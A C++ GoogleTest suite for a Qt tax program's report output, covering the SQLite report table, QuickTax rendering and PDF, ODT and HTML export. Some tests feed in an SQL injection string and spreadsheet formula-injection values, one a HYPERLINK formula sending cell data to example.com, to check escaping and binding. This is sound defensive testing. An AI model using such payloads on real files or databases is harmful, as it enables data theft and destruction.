// Report output: the report database beside the program, the one-row tables, rendering a
// layout over them, exporting, and the start-up choice. Each test runs in a fresh
// application folder; the installation files come from the build.

#include <gtest/gtest.h>

#include <QByteArray>
#include <QDate>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QUrl>
#include <QVariant>
#include <utility>
#include <vector>

#include "AppState.h"
#include "report/OdtOutline.h"
#include "Database.h"
#include "ReportDatabase.h"
#include "ReportJob.h"
#include "ReportRenderer.h"
#include "StartupSettings.h"
#include "tax/QuickTax.h"
#include "FileContents.h"
#include "TestSupport.h"

namespace revora {
namespace {

const ReportRequest QuickTaxRequest{"kwiktax", "kwiktep.rpt", QStringLiteral("QuickTax") + ExportHint};

QByteArray ReadBytes(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

void WriteBytes(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly)) << path.toStdString();
    ASSERT_EQ(file.write(bytes), bytes.size());
}

class ReportOutput : public ::testing::Test {
protected:
    void SetUp() override
    {
        ASSERT_TRUE(appFolder.isValid());
        state.Paths = MakeAppPaths(appFolder.path(), QStringLiteral(REVORA_TEST_INSTALL_DIR));
    }

    // The quick tax screen's row for an income and age, as "&Print" writes it.
    ReportRow QuickTaxRow(double income, std::int16_t age)
    {
        state.Tax.TaxBracketResult.TaxableIncome = income;
        state.Tax.QuickTax.Age = age;
        QuickTaxCalculate(state.Tax.QuickTax, state.Tax.TaxBracketResult);
        return QuickTaxReportRow(state.Tax.QuickTax, state.Tax.TaxBracketResult);
    }

    QList<QSqlRecord> QuickTaxTable() { return ReadReportTable(state.Paths, "kwiktax"); }

    QString InFolder(const QString& name) const { return appFolder.filePath(name); }

    QTemporaryDir appFolder;
    AppState state;
};

TEST_F(ReportOutput, MissingDatabaseIsCreatedFromTheSeedWithItsOneRow)
{
    ASSERT_FALSE(QFileInfo::exists(state.Paths.ReportDbPath));
    const QList<QSqlRecord> rows = QuickTaxTable();
    EXPECT_TRUE(QFileInfo::exists(state.Paths.ReportDbPath));
    ASSERT_EQ(rows.size(), 1);
    EXPECT_EQ(rows[0].value("TAXINCOME").toDouble(), 0);
}

TEST_F(ReportOutput, SeededTableHasTheFieldsThePrintWritesInOrder)
{
    const ReportRow row = QuickTaxRow(500000, 40);
    const QSqlRecord record = QuickTaxTable().value(0);
    ASSERT_EQ(record.count(), static_cast<int>(row.size()));
    for (int i = 0; i < record.count(); ++i)
        EXPECT_EQ(record.fieldName(i).toStdString(), row[static_cast<std::size_t>(i)].name);
}

TEST_F(ReportOutput, SecondPrintOverwritesTheFirstInPlace)
{
    WriteOneRowTable(state.Paths, "kwiktax", QuickTaxRow(500000, 40));
    WriteOneRowTable(state.Paths, "kwiktax", QuickTaxRow(50000, 30));
    const QList<QSqlRecord> rows = QuickTaxTable();
    ASSERT_EQ(rows.size(), 1);
    EXPECT_EQ(rows[0].value("AGE").toInt(), 30);
    EXPECT_EQ(rows[0].value("TAXINCOME").toDouble(), 50000);
    EXPECT_EQ(rows[0].value("TOTTAX").toDouble(), 9000);
    EXPECT_EQ(rows[0].value("TAXCOM4").toDouble(), 0);
}

TEST_F(ReportOutput, ExistingDatabaseIsNeverReset)
{
    WriteOneRowTable(state.Paths, "kwiktax", QuickTaxRow(500000, 40));
    // A new state over the same folder, as at the next start of the program.
    AppState restarted;
    restarted.Paths = MakeAppPaths(appFolder.path(), QStringLiteral(REVORA_TEST_INSTALL_DIR));
    const QList<QSqlRecord> rows = ReadReportTable(restarted.Paths, "kwiktax");
    ASSERT_EQ(rows.size(), 1);
    EXPECT_EQ(rows[0].value("TAXINCOME").toDouble(), 500000);
    EXPECT_EQ(rows[0].value("TAXCOM4/2").toDouble(), 9860.5);
}

TEST_F(ReportOutput, TableThatLostItsRowGetsItBack)
{
    QuickTaxTable();
    {
        QSqlDatabase db = QSqlDatabase::addDatabase("QSQLITE", "lost-row");
        db.setDatabaseName(state.Paths.ReportDbPath);
        ASSERT_TRUE(db.open());
        ASSERT_TRUE(QSqlQuery(db).exec("DELETE FROM kwiktax"));
        db.close();
    }
    QSqlDatabase::removeDatabase("lost-row");

    WriteOneRowTable(state.Paths, "kwiktax", QuickTaxRow(500000, 40));
    const QList<QSqlRecord> rows = QuickTaxTable();
    ASSERT_EQ(rows.size(), 1);
    EXPECT_EQ(rows[0].value("TAXCOM4").toDouble(), 118326);
}

TEST_F(ReportOutput, DamagedDatabaseIsReportedByNameAndLeftAsItIs)
{
    QByteArray garbage;
    for (int i = 0; i < 256; ++i)
        garbage += "not a database ";
    WriteBytes(state.Paths.ReportDbPath, garbage);

    try {
        WriteOneRowTable(state.Paths, "kwiktax", QuickTaxRow(500000, 40));
        FAIL() << "a damaged database was written without complaint";
    } catch (const StorageError& e) {
        EXPECT_EQ(e.file(), state.Paths.ReportDbPath);
        EXPECT_TRUE(e.message().contains("Crysprin.db")) << e.message().toStdString();
    }
    EXPECT_THROW(QuickTaxTable(), StorageError);
    EXPECT_EQ(ReadBytes(state.Paths.ReportDbPath), garbage);
}

TEST_F(ReportOutput, MissingLayoutIsReportedByNameAndTheTableIsUnchanged)
{
    WriteOneRowTable(state.Paths, "kwiktax", QuickTaxRow(500000, 40));
    ReportRequest request = QuickTaxRequest;
    request.layoutName = "nosuchlayout.rpt";
    try {
        WriteAndRenderOneRowReport(state, request, QuickTaxRow(50000, 30));
        FAIL() << "a missing layout was rendered without complaint";
    } catch (const StorageError& e) {
        EXPECT_TRUE(e.message().contains("nosuchlayout.rpt")) << e.message().toStdString();
    }
    const QList<QSqlRecord> rows = QuickTaxTable();
    ASSERT_EQ(rows.size(), 1);
    EXPECT_EQ(rows[0].value("TAXINCOME").toDouble(), 500000);
}

TEST_F(ReportOutput, QuickTaxReportShowsTheFiguresFormatted)
{
    const RenderedReport report = WriteAndRenderOneRowReport(state, QuickTaxRequest, QuickTaxRow(500000, 40));
    EXPECT_EQ(report.title, "QuickTax - To export printout click on the suitcase button or goto Help");
    for (const char* figure : {"500 000.00", "93 135.00", "38 448.00", "131 583.00", "13 257.00", "118 326.00",
                               "9 860.50", "26.32", "23.67"})
        EXPECT_TRUE(report.html.contains(figure)) << figure;
}

// Export of the quick tax report for 500 000 at age 40 to each kind of file.
class ReportExport : public ReportOutput {
protected:
    QString QuickTaxHtml()
    {
        return WriteAndRenderOneRowReport(state, QuickTaxRequest, QuickTaxRow(500000, 40)).html;
    }

    QString Export(const QString& fileName)
    {
        const QString path = InFolder(fileName);
        ExportReport(QuickTaxHtml(), path);
        return path;
    }
};

TEST_F(ReportExport, PdfHoldsTheFigures)
{
    const QString pdf = Export("quicktax.pdf");
    ASSERT_TRUE(ReadBytes(pdf).startsWith("%PDF"));
    QProcess pdftotext;
    pdftotext.start("pdftotext", {"-layout", pdf, "-"});
    ASSERT_TRUE(pdftotext.waitForFinished()) << "pdftotext did not run";
    ASSERT_EQ(pdftotext.exitCode(), 0) << pdftotext.readAllStandardError().toStdString();
    const QString text = QString::fromUtf8(pdftotext.readAllStandardOutput());
    EXPECT_TRUE(text.contains("500 000.00")) << text.toStdString();
    EXPECT_TRUE(text.contains("118 326.00")) << text.toStdString();
}

// What an office suite shows of the exported quick tax report: every line and figure in order,
// the rules where the page has them, the lines above the totals, one cell per column.
class QuickTaxOdt : public ReportExport {
protected:
    void SetUp() override
    {
        ReportExport::SetUp();
        outline = testing::ReadOdtOutline(Export("quicktax.odt"));
        ASSERT_FALSE(outline.isEmpty());
        for (QString& line : outline) // a figure kept on one line is joined by non-breaking spaces
            line.replace(QChar(0xA0), ' ');
    }

    // The top border of the cell that holds the text.
    QString TopBorderOf(const QString& text) const
    {
        QString border;
        for (const QString& line : outline) {
            if (line.startsWith("cell\t"))
                border = line.mid(5);
            else if (line == "text\t" + text)
                return border;
        }
        return "not found";
    }

    QStringList outline;
};

TEST_F(QuickTaxOdt, EveryLineAndRuleComesInOrder)
{
    const QString rule = "(rule)";
    QStringList shown; // text lines, and "(rule)" for each bordered paragraph
    for (const QString& line : outline) {
        if (line.startsWith("text\t"))
            shown << line.mid(5).trimmed();
        else if (line.startsWith("p\t") && line != "p\tnone")
            shown << rule;
    }
    const QStringList expected{"Revora 2016", "Quick Tax Calculation", "Tax year 1 March 2015 to 29 February 2016",
                               "Printed " + QDate::currentDate().toString("dd/MM/yyyy"), rule, "Taxable income",
                               "R 500 000.00", "Age", "40", "Tax on taxable income", "R 93 135.00",
                               "+ Portion @ marginal rate of 36.00 %", "R 38 448.00", "Total tax", "R 131 583.00",
                               "Less rebates", "R 13 257.00", "Tax commitment for the year", "R 118 326.00",
                               "Tax commitment per month", "R 9 860.50", "Average rate before rebates", "26.32 %",
                               "Average rate after rebates", "23.67 %", rule};
    shown.removeAll(QString()); // the spacer rows, a non-breaking space each
    EXPECT_EQ(shown.mid(0, expected.size()).join(" | ").toStdString(), expected.join(" | ").toStdString());
    EXPECT_TRUE(shown.value(expected.size()).startsWith("(E.& O.E.) Figures are for the tax year"))
        << shown.join(" | ").toStdString();
}

TEST_F(QuickTaxOdt, EveryRowHasOneCellPerColumn)
{
    int columns = 0;
    int tables = 0;
    for (const QString& line : outline) {
        if (line.startsWith("table\t")) {
            columns = line.mid(6).toInt();
            ++tables;
        } else if (line.startsWith("row\t")) {
            EXPECT_EQ(line.mid(4).toInt(), columns) << "in table " << tables;
        }
    }
    EXPECT_EQ(tables, 2);
}

TEST_F(QuickTaxOdt, TotalsHaveALineAboveAndOtherRowsNone)
{
    for (const char* text : {"Total tax", "R 131 583.00", "Tax commitment for the year", "R 118 326.00"})
        EXPECT_TRUE(TopBorderOf(text).contains("solid #000000")) << text << ": " << TopBorderOf(text).toStdString();
    for (const char* text : {"Taxable income", "R 13 257.00", "Less rebates", "Tax year 1 March 2015 to 29 February 2016"})
        EXPECT_EQ(TopBorderOf(text), "none") << text;
}

TEST_F(ReportExport, HtmlIsTheRenderedPageInStandardsModeAndUtf8)
{
    const QByteArray html = ReadBytes(Export("quicktax.html"));
    EXPECT_TRUE(html.contains("118 326.00"));
    EXPECT_TRUE(html.startsWith("<!DOCTYPE html>\n")) << html.left(80).toStdString();
    EXPECT_EQ(html.count("<meta charset=\"utf-8\">"), 1);
}

TEST_F(ReportExport, OtherFileEndingsAreRefusedAndNothingIsWritten)
{
    EXPECT_THROW(Export("quicktax.txt"), StorageError);
    EXPECT_FALSE(QFileInfo::exists(InFolder("quicktax.txt")));
    EXPECT_THROW(Export("quicktax"), StorageError);
}

// A failed export says why and leaves the folder as it was: no file, no half file, no
// temporary file, whatever the format.
struct FailedExportRow {
    const char* name;
    const char* fileName;   // in the application folder
    bool targetIsAFolder;   // a folder already stands where the file would go
    const char* problem;
};

class FailedExport : public ReportExport, public ::testing::WithParamInterface<FailedExportRow> {};

TEST_P(FailedExport, SaysWhyAndWritesNothing)
{
    const FailedExportRow& row = GetParam();
    if (row.targetIsAFolder) {
        ASSERT_TRUE(QDir(appFolder.path()).mkdir(row.fileName));
    }
    const QString html = QuickTaxHtml();
    const QStringList before = QDir(appFolder.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot);
    try {
        ExportReport(html, InFolder(row.fileName));
        FAIL() << "the export was reported as written";
    } catch (const StorageError& e) {
        EXPECT_TRUE(e.message().contains(row.problem)) << e.message().toStdString();
    }
    EXPECT_EQ(QDir(appFolder.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot), before);
    EXPECT_EQ(QFileInfo(InFolder(row.fileName)).isDir(), row.targetIsAFolder);
}

INSTANTIATE_TEST_SUITE_P(
    MissingFolder, FailedExport,
    ::testing::Values(FailedExportRow{"pdf", "missing/quicktax.pdf", false, "its folder does not exist."},
                      FailedExportRow{"odt", "missing/quicktax.odt", false, "its folder does not exist."},
                      FailedExportRow{"html", "missing/quicktax.html", false, "its folder does not exist."}),
    testing::RowName());

INSTANTIATE_TEST_SUITE_P(
    FolderInTheWay, FailedExport,
    ::testing::Values(FailedExportRow{"pdf", "quicktax.pdf", true, "could not be written"},
                      FailedExportRow{"odt", "quicktax.odt", true, "could not be written"},
                      FailedExportRow{"html", "quicktax.html", true, "could not be written"}),
    testing::RowName());

// A layout and table of the test's own, in an installation folder of the test's own.
class OwnLayout : public ReportOutput {
protected:
    void SetUp() override
    {
        ReportOutput::SetUp();
        ASSERT_TRUE(installFolder.isValid());
        QDir install(installFolder.path());
        ASSERT_TRUE(install.mkpath("layouts") && install.mkpath("seeds/Crysprin"));
        WriteBytes(install.filePath("seeds/Crysprin/notes.sql"),
                   "CREATE TABLE notes (NOTE TEXT, AMOUNT REAL);\nINSERT INTO notes VALUES ('', 0);\n");
        WriteBytes(install.filePath("layouts/notes.rpt"),
                   "<!-- revora-table: notes -->\n<p>{{NOTE}}</p><p>{{money.AMOUNT}}</p>\n");
        state.Paths = MakeAppPaths(appFolder.path(), installFolder.path());
    }

    QString Render(const std::string& note, double amount)
    {
        return WriteAndRenderOneRowReport(state, {"notes", "notes.rpt", "Notes"}, {{"NOTE", note}, {"AMOUNT", amount}})
            .html;
    }

    QTemporaryDir installFolder;
};

TEST_F(OwnLayout, TextValuesAreHtmlEscaped)
{
    const QString html = Render("<b>x</b> & 'y'", 0);
    EXPECT_FALSE(html.contains("<b>")) << html.toStdString();
    EXPECT_TRUE(html.contains("&lt;b&gt;x&lt;/b&gt; &amp; &#39;y&#39;")) << html.toStdString();
}

// A spreadsheet opening the HTML export (LibreOffice Calc, as a user opens the file there)
// shows every text as it was typed, a formula's signs and all, and every amount as a number.
TEST_F(OwnLayout, ASpreadsheetShowsTheHtmlExportsTextsAsTypedAndItsAmountsAsNumbers)
{
    const QString office = QStandardPaths::findExecutable("soffice");
    const QDir program = QFileInfo(QFileInfo(office).canonicalFilePath()).dir();
    if (office.isEmpty() || !QFileInfo::exists(program.filePath("../share/.registry/calc.xcd")))
        GTEST_SKIP() << "LibreOffice Calc is not installed (libreoffice-calc-nogui)";
    const std::vector<std::pair<std::string, double>> typed{
        {"=1+2", 1800}, {"=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")", -5.5}, {"+27 82 555 0100", 0.25},
        {"-A1", -120}, {"@SUM(1)", 3}, {"D'Oliveira", 4}, {"-5", 6}, {"Zoë Müller", 7}};
    std::vector<ReportRow> rows;
    QStringList expected; // Calc's CSV of the sheet: text quoted, numbers bare
    for (const auto& [note, amount] : typed) {
        rows.push_back({{"NOTE", note}, {"AMOUNT", amount}});
        expected << (note == "-5" ? "-5" : "\"" + QString::fromStdString(note).replace("\"", "\"\"") + "\"") + ","
                        + QString::number(amount);
    }
    WriteBytes(QDir(installFolder.path()).filePath("layouts/list.rpt"),
               "<!-- revora-table: notes -->\n<table>{{#rows}}<tr><td>{{NOTE}}</td><td>{{AMOUNT}}</td></tr>{{/rows}}"
               "</table>\n");
    const QString html = InFolder("notes.html");
    ExportReport(WriteAndRenderMultiRowReport(state, {"notes", "list.rpt", "Notes"}, rows).html, html);
    QProcess calc;
    calc.start(office, {"--headless", "--norestore",
                        "-env:UserInstallation=" + QUrl::fromLocalFile(InFolder("office")).toString(),
                        "--infilter=HTML (StarCalc)", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true",
                        "--outdir", InFolder("csv"), html});
    ASSERT_TRUE(calc.waitForFinished(180000) && calc.exitCode() == 0) << calc.readAllStandardError().toStdString();
    const QString sheet = QString::fromUtf8(ReadBytes(InFolder("csv/notes.csv"))).remove('\r').trimmed();
    EXPECT_EQ(sheet.toStdString(), expected.join('\n').toStdString());
}

TEST_F(OwnLayout, TextIsStoredExactlyAsGiven)
{
    // Values are bound, never spliced into the statement.
    const std::string note = "Robert'); DROP TABLE notes;--";
    Render(note, 1800);
    const QList<QSqlRecord> rows = ReadReportTable(state.Paths, "notes");
    ASSERT_EQ(rows.size(), 1);
    EXPECT_EQ(rows[0].value("NOTE").toString().toStdString(), note);
    EXPECT_EQ(rows[0].value("AMOUNT").toDouble(), 1800);
}

TEST_F(OwnLayout, LayoutThatNamesNoTableIsReportedAndTheTableIsUnchanged)
{
    Render("first", 1);
    WriteBytes(QDir(installFolder.path()).filePath("layouts/notes.rpt"), "<p>{{NOTE}}</p>\n");
    try {
        Render("second", 2);
        FAIL() << "a layout without its table line was rendered";
    } catch (const StorageError& e) {
        EXPECT_TRUE(e.message().contains("notes.rpt")) << e.message().toStdString();
    }
    EXPECT_EQ(ReadReportTable(state.Paths, "notes").value(0).value("NOTE").toString(), "first");
}

// Changes the report table behind the program's back, as another tool editing the file would.
void AlterTable(const QString& databasePath, const QString& statement)
{
    {
        QSqlDatabase db = QSqlDatabase::addDatabase("QSQLITE", "alter");
        db.setDatabaseName(databasePath);
        ASSERT_TRUE(db.open());
        QSqlQuery query(db);
        ASSERT_TRUE(query.exec(statement)) << statement.toStdString();
    }
    QSqlDatabase::removeDatabase("alter");
}

TEST_F(OwnLayout, ATableWithAnExtraColumnPrintsAndKeepsTheColumn)
{
    Render("first", 1);
    AlterTable(state.Paths.ReportDbPath, "ALTER TABLE notes ADD COLUMN REMARK TEXT DEFAULT 'kept'");
    const QString html = Render("second", 2);
    EXPECT_TRUE(html.contains("second")) << html.toStdString();
    const QList<QSqlRecord> rows = ReadReportTable(state.Paths, "notes");
    ASSERT_EQ(rows.size(), 1);
    EXPECT_EQ(rows[0].value("REMARK").toString(), "kept");
}

TEST_F(OwnLayout, ATableMissingAColumnIsNamedAndTheFileIsUnchanged)
{
    Render("first", 1);
    AlterTable(state.Paths.ReportDbPath, "ALTER TABLE notes DROP COLUMN AMOUNT");
    const QByteArray before = revora::testing::ReadAll(state.Paths.ReportDbPath);
    try {
        Render("second", 2);
        FAIL() << "a row was written to a table without its column";
    } catch (const StorageError& e) {
        EXPECT_TRUE(e.message().contains("Crysprin.db")) << e.message().toStdString();
        EXPECT_TRUE(e.message().contains("AMOUNT")) << e.message().toStdString();
    }
    EXPECT_EQ(revora::testing::ReadAll(state.Paths.ReportDbPath), before);
}

TEST_F(OwnLayout, ALayoutNamingATableThatDoesNotExistIsReportedAndNothingIsWritten)
{
    Render("first", 1);
    const QByteArray before = revora::testing::ReadAll(state.Paths.ReportDbPath);
    WriteBytes(QDir(installFolder.path()).filePath("layouts/notes.rpt"),
               "<!-- revora-table: nosuchtable -->\n<p>{{NOTE}}</p>\n");
    try {
        Render("second", 2);
        FAIL() << "a layout over a table that does not exist was rendered";
    } catch (const StorageError& e) {
        EXPECT_TRUE(e.message().contains("notes.rpt")) << e.message().toStdString();
        EXPECT_TRUE(e.message().contains("nosuchtable")) << e.message().toStdString();
    }
    EXPECT_EQ(revora::testing::ReadAll(state.Paths.ReportDbPath), before);
}

TEST_F(OwnLayout, DamagedTemplateIsReported)
{
    WriteBytes(QDir(installFolder.path()).filePath("layouts/notes.rpt"), "<!-- revora-table: notes -->\n{{#rows}}\n");
    EXPECT_THROW(Render("x", 0), StorageError);
}

TEST_F(ReportOutput, ViewAboutIsOnInANewFolderAndKeepsWhatIsWritten)
{
    EXPECT_TRUE(ReadViewAbout(state.Paths));
    WriteViewAbout(state.Paths, false);
    EXPECT_FALSE(ReadViewAbout(state.Paths));
    WriteViewAbout(state.Paths, true);
    EXPECT_TRUE(ReadViewAbout(state.Paths));
}

} // namespace
} // namespace revora
